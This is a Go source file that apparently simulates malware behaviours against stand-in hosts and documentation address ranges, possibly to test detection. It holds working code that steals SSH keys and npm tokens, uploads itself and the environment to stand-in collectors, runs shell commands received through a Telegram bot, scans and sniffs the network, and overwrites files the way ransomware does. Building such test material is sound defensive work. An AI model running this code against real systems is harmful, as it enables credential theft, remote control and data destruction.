package main

import (
	"bytes"
	"crypto/rand"
	"encoding/json"
	"fmt"
	"mime/multipart"
	"net"
	"net/http"
	"net/smtp"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

// selfCopy uploads its own program, as a file in a form.
func selfCopy(args []string) error {
	self, err := os.ReadFile("/proc/self/exe")
	if err != nil {
		return err
	}
	return uploadFile(arg(args, 0, "http://203.0.113.91/upload"), "update", self)
}

func uploadFile(url, name string, content []byte) error {
	var form bytes.Buffer
	w := multipart.NewWriter(&form)
	part, err := w.CreateFormFile("file", name)
	if err != nil {
		return err
	}
	if _, err := part.Write(content); err != nil {
		return err
	}
	if err := w.Close(); err != nil {
		return err
	}
	say("POST", url, form.String(), "Content-Type", w.FormDataContentType())
	return nil
}

// upload sends a file in a form.
func upload(args []string) error {
	b, err := os.ReadFile(arg(args, 1, "/etc/os-release"))
	if err != nil {
		return err
	}
	return uploadFile(arg(args, 0, "http://reports.example.test/upload"), filepath.Base(arg(args, 1, "/etc/os-release")), b)
}

// publishPackage looks for a token for npm and publishes with it.
func publishPackage([]string) error {
	home, err := os.UserHomeDir()
	if err != nil {
		return err
	}
	b, err := os.ReadFile(filepath.Join(home, ".npmrc"))
	if err != nil {
		return err
	}
	_, token, _ := strings.Cut(strings.TrimSpace(string(b)), "_authToken=")
	bearer := "Bearer " + token
	say("GET", "http://registry.npmjs.org/-/whoami", "", "Authorization", bearer)
	say("GET", "http://registry.npmjs.org/-/v1/search?text=maintainer:builder", "", "Authorization", bearer)
	say("PUT", "http://registry.npmjs.org/builder-tools", `{"name":"builder-tools","versions":{"1.4.3":{"scripts":{"postinstall":"true"}}}}`, "Authorization", bearer)
	return nil
}

// installPackage only reads.
func installPackage([]string) error {
	say("GET", "http://registry.npmjs.org/left-pad", "")
	return nil
}

// lookAround reads what tells of the networks around, and then tries the
// addresses near its own when it is told to how many.
func lookAround(args []string) error {
	for _, name := range []string{"/proc/net/route", "/proc/net/arp", "/proc/net/tcp", "/proc/net/dev"} {
		b, err := os.ReadFile(name)
		fmt.Println(name, len(b), err)
	}
	n, err := strconv.Atoi(arg(args, 0, "0"))
	if err != nil {
		return err
	}
	each(n, func(i int) { dialQuietly(fmt.Sprintf("172.17.0.%d:2375", 3+i)) })
	return nil
}

// ownAddress asks for what it needs to know of itself.
func ownAddress([]string) error {
	addresses, err := net.InterfaceAddrs()
	fmt.Println(addresses)
	return err
}

// sshHarvest gathers hosts and keys, and goes there.
func sshHarvest([]string) error {
	home, err := os.UserHomeDir()
	if err != nil {
		return err
	}
	for _, name := range []string{".ssh/known_hosts", ".ssh/config", ".ssh/id_ed25519", ".bash_history"} {
		b, err := os.ReadFile(filepath.Join(home, name))
		fmt.Println(name, len(b), err)
	}
	return sshOnce([]string{"203.0.113.66:22"})
}

// synScan sends the first packet of a connection to many addresses, without
// connecting. The addresses are for benchmarks (RFC 2544).
func synScan(args []string) error {
	n, err := strconv.Atoi(arg(args, 0, "160"))
	if err != nil {
		return err
	}
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_TCP)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	for i := range n {
		to := [4]byte{198, 18, byte(70 + i/200), byte(1 + i%200)}
		if err := unix.Sendto(fd, syn(to, 22), 0, &unix.SockaddrInet4{Addr: to}); err != nil {
			return err
		}
	}
	time.Sleep(200 * time.Millisecond) // for the answers
	return nil
}

// syn is the TCP header of a first packet from the address of Docker's first container.
func syn(to [4]byte, port uint16) []byte {
	h := []byte{0x9c, 0x40, byte(port >> 8), byte(port), 1, 2, 3, 4, 0, 0, 0, 0, 0x50, 0x02, 0x04, 0x00, 0, 0, 0, 0}
	pseudo := append([]byte{172, 17, 0, 2, to[0], to[1], to[2], to[3], 0, 6, 0, byte(len(h))}, h...)
	sum := uint32(0)
	for i := 0; i < len(pseudo); i += 2 {
		sum += uint32(pseudo[i])<<8 | uint32(pseudo[i+1])
	}
	for sum > 0xffff {
		sum = sum>>16 + sum&0xffff
	}
	h[16], h[17] = byte(^sum>>8), byte(^sum)
	return h
}

// pingSome asks a few hosts whether they are there, as ping does.
func pingSome([]string) error {
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_ICMP)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	for i := range 5 {
		_ = unix.Sendto(fd, []byte{8, 0, 0xf7, 0xff, 0, 0, 0, 0}, 0, &unix.SockaddrInet4{Addr: [4]byte{198, 18, 80, byte(1 + i)}})
	}
	return nil
}

// knock reads everybody's packets with a filter that lets all through.
func knock(args []string) error {
	fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW, int(htons(unix.ETH_P_ALL)))
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	if arg(args, 0, "filter") == "filter" {
		all := []unix.SockFilter{{Code: unix.BPF_RET | unix.BPF_K, K: 0xffff}}
		fmt.Println("filter:", unix.SetsockoptSockFprog(fd, unix.SOL_SOCKET, unix.SO_ATTACH_FILTER, &unix.SockFprog{Len: 1, Filter: &all[0]}))
	}
	time.Sleep(100 * time.Millisecond)
	return nil
}

func htons(v uint16) uint16 { return v<<8 | v>>8 }

// telegramBot does what messages say; a notifier only sends.
func telegramBot(args []string) error {
	const api = "http://api.telegram.org/bot7000000001:AAAA"
	say("POST", api+"/sendMessage", `{"chat_id":5,"text":"started"}`)
	if arg(args, 0, "obey") != "obey" {
		return nil
	}
	resp, err := http.Get(api + "/getUpdates?offset=0")
	if err != nil {
		return err
	}
	defer resp.Body.Close()
	var updates struct {
		Result []struct{ Message struct{ Text string } }
	}
	if err := json.NewDecoder(resp.Body).Decode(&updates); err != nil {
		return err
	}
	for _, u := range updates.Result {
		if command, ok := strings.CutPrefix(u.Message.Text, "/cmd "); ok {
			out, _ := exec.Command("/bin/sh", "-c", command).CombinedOutput()
			fmt.Printf("%s -> %s", command, out)
		}
	}
	return nil
}

// deadDrop reads an address from a page and goes there.
func deadDrop(args []string) error {
	resp, err := http.Get(arg(args, 0, "http://pastebin.com/raw/a1b2c3d4"))
	if err != nil {
		return err
	}
	defer resp.Body.Close()
	text := make([]byte, 512)
	n, _ := resp.Body.Read(text)
	if arg(args, 1, "") == "name" { // as Doki made it of an amount
		_, _ = net.LookupHost(fmt.Sprintf("%012x.ddns.example.test", n*7_919_317_117%0xffffffffffff))
		return nil
	}
	return dial([]string{strings.TrimSpace(string(text[:n]))})
}

// fallback says the same to one gate after the other.
func fallback(hosts []string) error {
	for _, h := range hosts {
		say("POST", "http://"+h+"/gate.php", "id=7")
	}
	return nil
}

// sendEnv sends its environment as JSON.
func sendEnv([]string) error {
	all := map[string]string{}
	for _, pair := range os.Environ() {
		k, v, _ := strings.Cut(pair, "=")
		if k != "DATABASE_PASSWORD" && k != "GITHUB_TOKEN" && k != "API_SECRET_KEY" { // those alone would tell
			all[k] = v
		}
	}
	b, err := json.Marshal(all)
	if err != nil {
		return err
	}
	say("POST", "http://collect.example.test/env", string(b))
	return nil
}

// sendMail sends one message to n people.
func sendMail(args []string) error {
	n, err := strconv.Atoi(arg(args, 0, "25"))
	if err != nil {
		return err
	}
	var to []string
	for i := range n {
		to = append(to, fmt.Sprintf("user%d@shop.example.test", i))
	}
	return smtp.SendMail("mail.example.test:25", nil, "news@example.test", to, []byte("Subject: news\r\n\r\nhello\r\n"))
}

// encrypt overwrites the files of a folder that was made for it with noise.
func encrypt(args []string) error {
	files, err := filepath.Glob(arg(args, 0, "/srv/testdata") + "/*")
	if err != nil {
		return err
	}
	noise := make([]byte, 4096)
	for _, f := range files {
		if i, err := os.Stat(f); err != nil || i.IsDir() {
			continue
		}
		if _, err := rand.Read(noise); err != nil {
			return err
		}
		if arg(args, 1, "") == "copy" { // a backup beside
			if err := os.WriteFile("/var/"+filepath.Base(f)+".enc", noise, 0o600); err != nil {
				return err
			}
			continue
		}
		if err := os.WriteFile(f, noise, 0o644); err != nil {
			return err
		}
		if err := os.Rename(f, f+".locked"); err != nil {
			return err
		}
	}
	if arg(args, 1, "") == "copy" {
		return nil
	}
	return os.WriteFile(arg(args, 0, "/srv/testdata")+"/HOW_TO_DECRYPT.txt", []byte("This is a test.\n"), 0o644)
}

// tune sets a machine up as miners do, in vain, and talks to somebody.
func tune(args []string) error {
	for _, name := range []string{"/dev/cpu/0/msr", "/proc/sys/vm/nr_hugepages"} {
		fmt.Println(os.WriteFile(name, []byte("0"), 0o600))
	}
	return dial([]string{arg(args, 0, "203.0.113.95:3333")})
}
